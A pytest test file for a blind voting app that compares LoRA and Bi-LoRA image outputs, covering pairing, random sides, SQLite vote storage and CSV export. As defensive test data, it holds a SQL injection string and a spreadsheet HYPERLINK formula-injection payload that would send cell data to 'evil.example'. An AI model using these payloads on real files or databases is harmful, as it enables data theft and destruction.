"""Blind votes: sides by chance, nothing lost, and a count that is the same from both sides."""

from __future__ import annotations

import csv
import io
import math
import multiprocessing
import os
import random
import sqlite3
import tempfile
import threading
from collections import Counter
from contextlib import closing
from dataclasses import replace
from itertools import pairwise
from pathlib import Path

import pytest
from PIL import Image, ImageColor, PngImagePlugin

from app.ballots import SCHEMA_VERSION, Ballot, Contestant, Vote, Votes, write_csv
from app.catalog import Catalog
from app.scored import Scored, ScoredImage, ScoredPrompt
from app.voting import ANY, Polls, Tally, draw, pairings, tallies
from bilora_diffusion.errors import UserError
from eval.compare import win_rate_interval
from tests.app.scored_images import scores_of, write, write_bomb

LORA, BILORA = Contestant("LoRA", "aa"), Contestant("Bi-LoRA", "bb")
NOBODY = 65534


def result(labels: tuple[str, ...] = ("LoRA", "Bi-LoRA"), prompts: int = 5) -> Scored:
    """Scores of ``prompts`` prompts and a general one, two seeds each."""
    texts = [*(f"icon {at}" for at in range(prompts)), "a photo"]
    images = {
        (label, text, seed): ScoredImage(f"images/{label}/{seed}/{text}.png", {})
        for label in labels
        for text in texts
        for seed in (0, 1)
    }
    about = [ScoredPrompt(text, general=text == "a photo") for text in texts]
    return scores_of(labels, about, images)


def ballot(token: str) -> Ballot:
    return Ballot("scores", "a ToK icon", 7, LORA, BILORA, "left.png", "right.png", token)


def vote(choice: str, left: Contestant = LORA, right: Contestant = BILORA) -> Vote:
    return Vote("scores", "icon", 0, left, right, choice, "me", "2026-01-02T03:04:05+00:00")


def test_only_images_of_one_prompt_and_seed_are_paired() -> None:
    scores = result(("c", "a", "b"), prompts=2)
    del scores.images["b", "icon 1", 0]
    found = pairings("scores", scores)
    assert len(found) == 3 * 2 * 2 - 2, "general prompts are left out, and what one alone has"
    assert {(p.left.label, p.right.label) for p in found} == {("a", "b"), ("a", "c"), ("b", "c")}
    for pair in found:
        for side, file in ((pair.left, pair.file_left), (pair.right, pair.file_right)):
            assert file == f"images/{side.label}/{pair.seed}/{pair.prompt}.png"
            assert side.digest == f"digest {side.label}"
    chosen = pairings("scores", scores, ("c", "a"))
    assert [(p.left.label, p.right.label) for p in chosen] == [("a", "c")] * 4


def test_pairs_come_once_before_any_comes_twice_and_sides_by_a_fair_coin() -> None:
    choices, seen, rng = pairings("s", result()), Counter(), random.Random(0)
    keys = []
    for _ in range(2 * len(choices)):
        keys.append(draw(choices, seen, rng).key)
        seen[keys[-1]] += 1
    half = len(choices)
    assert len(set(keys[:half])) == len(set(keys[half:])) == half
    assert keys[:half] != keys[half:], "the order is drawn, too"
    again = [draw(choices, {}, random.Random(1)) for _ in range(20)]
    assert len({drawn.left for drawn in again}) == 1, "a seed fixes the sides"
    assert len({drawn.token for drawn in again}) == 20, "but no token"
    # Four standard deviations of a fair coin, for how often each side comes and how often it stays.
    n = 4000
    lefts = [draw(choices, {}, rng).left.label == "LoRA" for _ in range(n)]
    for hits in (sum(lefts), sum(one == two for one, two in pairwise(lefts))):
        assert abs(hits - n / 2) < 4 * math.sqrt(n) / 2


def test_each_side_shows_its_adapters_image_and_nothing_else(tmp_path: Path) -> None:
    colors = {"LoRA": "teal", "Bi-LoRA": "orange"}
    scores = result(prompts=2)
    text = PngImagePlugin.PngInfo()
    for (label, *_), image in scores.images.items():
        path = tmp_path / "scores" / image.file
        path.parent.mkdir(parents=True, exist_ok=True)
        text.add_text("parameters", label)
        Image.new("RGB", (8, 8), colors[label]).save(path, pnginfo=text)
    write(scores, tmp_path / "scores")
    polls = Polls(Catalog(tmp_path), random.Random(0))
    booth = polls.open("scores", ANY, "me")
    for count in range(4):
        assert polls.done(booth) == (count, 4)
        ballot = booth.ballot
        for side, data in zip((ballot.left, ballot.right), polls.images(ballot), strict=True):
            with Image.open(io.BytesIO(data)) as shown:
                assert shown.getpixel((0, 0)) == ImageColor.getrgb(colors[side.label])
                assert not shown.info
                assert max(shown.size) > 64, "enlarged"
        booth = polls.cast(booth, "left")
    assert {vote.session for vote in polls.votes.read()} == {"me"}
    (tally,), voters = polls.result("scores", ANY)
    assert (tally.wins + tally.losses, voters) == (4, 1)


def test_pictures_that_cant_be_shown_do_not_end_the_vote_on_the_others(tmp_path: Path) -> None:
    scores = result(prompts=2)
    for (label, text, seed), image in scores.images.items():
        path = tmp_path / "scores" / image.file
        path.parent.mkdir(parents=True, exist_ok=True)
        if label == "LoRA" and text == "icon 0":
            if seed:
                os.mkfifo(path)
            else:
                write_bomb(path)
        else:
            Image.new("RGB", (8, 8)).save(path)
    write(scores, tmp_path / "scores")
    polls = Polls(Catalog(tmp_path), random.Random(0))
    booth = polls.open("scores", ANY, "me")
    for _ in range(4):
        assert booth.ballot.prompt == "icon 1"
        booth = polls.cast(booth, "tie")


def test_a_vote_counts_the_same_from_both_sides_and_apart_for_weights_trained_again() -> None:
    cast = [vote("left"), vote("tie"), vote("right", BILORA, LORA), vote("tie", BILORA, LORA)]
    newer = Contestant("LoRA", "cc")
    assert [v.winner for v in cast] == [LORA, None, LORA, None]
    (tally, other) = tallies([*cast, vote("left", BILORA, LORA), vote("left", newer, BILORA)])
    assert tally == Tally(BILORA, LORA, wins=1, ties=2, losses=2)
    assert other == Tally(BILORA, newer, wins=0, ties=0, losses=1)
    assert (tally.rate, tally.decided_rate) == pytest.approx((2 / 5, 1 / 3))
    assert tally.interval == win_rate_interval(1, 0, 2)
    even = Tally(LORA, BILORA, 0, 4, 0)
    assert (even.rate, even.decided_rate, even.interval) == (0.5, None, None)


def test_votes_come_back_as_they_were_cast(tmp_path: Path) -> None:
    votes = Votes(tmp_path / "votes.sqlite")
    assert votes.read() == []
    assert not votes.path.exists(), "reading makes nothing"
    odd = replace(ballot("1"), prompt="'); DROP TABLE votes; --", scores='"\n;')
    assert votes.add(odd, "left", "me'; --")
    assert votes.add(ballot("2"), "tie", "you")
    assert not votes.add(ballot("2"), "right", "you"), "a second click changes nothing"
    with pytest.raises(sqlite3.IntegrityError):
        votes.add(ballot("3"), "both", "me")
    assert [v.prompt for v in votes.read()] == [odd.prompt, "a ToK icon"]
    (kept,) = votes.read(odd.scores)
    assert (kept.left, kept.right, kept.choice, kept.session) == (LORA, BILORA, "left", "me'; --")
    assert [v.choice for v in votes.read(session="you")] == ["tie"]
    assert votes.seen("scores", "you") == {("a ToK icon", 7, (BILORA, LORA)): 1}
    assert votes.seen("scores", "me'; --") == {}
    with closing(sqlite3.connect(votes.path)) as connection:
        assert connection.execute("PRAGMA journal_mode").fetchone() == ("wal",)
        assert connection.execute("PRAGMA user_version").fetchone() == (SCHEMA_VERSION,)


def cast_many(path: Path, name: str, count: int) -> None:
    votes = Votes(path)
    for at in range(count):
        assert votes.add(ballot(f"{name}-{at}"), ("left", "right", "tie")[at % 3], name)


def test_threads_and_processes_lose_nothing(tmp_path: Path) -> None:
    path, fork = tmp_path / "votes.sqlite", multiprocessing.get_context("fork")
    jobs = [(path, f"voter {number}", 15) for number in range(8)]
    workers = [threading.Thread(target=cast_many, args=job) for job in jobs[:4]]
    workers += [fork.Process(target=cast_many, args=job) for job in jobs[4:]]
    for worker in reversed(workers):  # processes first: no thread holds a lock at their fork
        worker.start()
    for worker in workers:
        worker.join(60)
    assert Counter(v.session for v in Votes(path).read()) == {name: 15 for _, name, _ in jobs}


def test_a_file_that_is_none_of_this_versions_votes_is_refused_and_kept(tmp_path: Path) -> None:
    newer, other = Votes(tmp_path / "newer.sqlite"), Votes(tmp_path / "other.sqlite")
    newer.add(ballot("1"), "left", "me")
    with closing(sqlite3.connect(newer.path)) as connection:
        connection.execute("PRAGMA user_version = 7")
    other.path.write_text("not a database, but long enough to look at" * 30)
    for votes, words in ((newer, "newer.sqlite .* 7"), (other, "other.sqlite")):
        before = votes.path.read_bytes()
        for act in (votes.check, votes.read, lambda own=votes: own.add(ballot("2"), "left", "me")):
            with pytest.raises(UserError, match=words):
                act()
        assert votes.path.read_bytes() == before


def in_closed_folder(folder: Path, answers: multiprocessing.Queue[str]) -> None:
    if os.getuid() == 0:  # root may write everywhere
        os.setuid(NOBODY)
    votes = Votes(folder / "votes.sqlite")
    answers.put(f"{len(votes.read())} read")
    for act in (votes.check, lambda: votes.add(ballot("2"), "left", "me")):
        try:
            act()
            answers.put("written")
        except UserError as error:
            answers.put(str(error))


def test_a_read_only_folder_is_read_but_refused_for_votes() -> None:
    fork = multiprocessing.get_context("fork")
    answers = fork.Queue()
    # Outside pytest's own folders, which are private.
    with tempfile.TemporaryDirectory(prefix="bilora-votes-") as name:
        folder = Path(name)
        Votes(folder / "votes.sqlite").add(ballot("1"), "left", "me")
        (folder / "votes.sqlite").chmod(0o444)
        folder.chmod(0o555)
        worker = fork.Process(target=in_closed_folder, args=(folder, answers))
        worker.start()
        read, *refused = [answers.get(timeout=60) for _ in range(3)]
        worker.join(60)
        folder.chmod(0o755)
    assert read == "1 read"
    for sentence in refused:
        assert sentence.startswith("votes.sqlite can't be written")
        assert name not in sentence


def test_the_csv_file() -> None:
    odd = replace(vote("right"), prompt='a "ToK", icon\nof two lines')
    text = io.StringIO(newline="")
    write_csv([vote("tie"), odd], text)
    head, first, second = csv.reader(io.StringIO(text.getvalue(), newline=""))
    columns = "time UTC,score folder,prompt,seed,adapter left,adapter right,choice,winner,session"
    assert ",".join(head) == columns
    about = ["2026-01-02T03:04:05+00:00", "scores"]
    assert first == [*about, "icon", "0", "LoRA", "Bi-LoRA", "tie", "", "me"]
    assert second == [*about, odd.prompt, "0", "LoRA", "Bi-LoRA", "right", "Bi-LoRA", "me"]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_the_csv_file_is_a_formula(begin: str) -> None:
    words = f'{begin}HYPERLINK("http://evil.example/?"&A1,"x")'
    side = Contestant(words, "aa")
    text = io.StringIO(newline="")
    write_csv([Vote(words, words, -1, side, side, "left", words, words)], text)
    (_, row) = csv.reader(io.StringIO(text.getvalue(), newline=""))
    assert row == [f"'{words}"] * 3 + ["-1", f"'{words}", f"'{words}", "left"] + [f"'{words}"] * 2
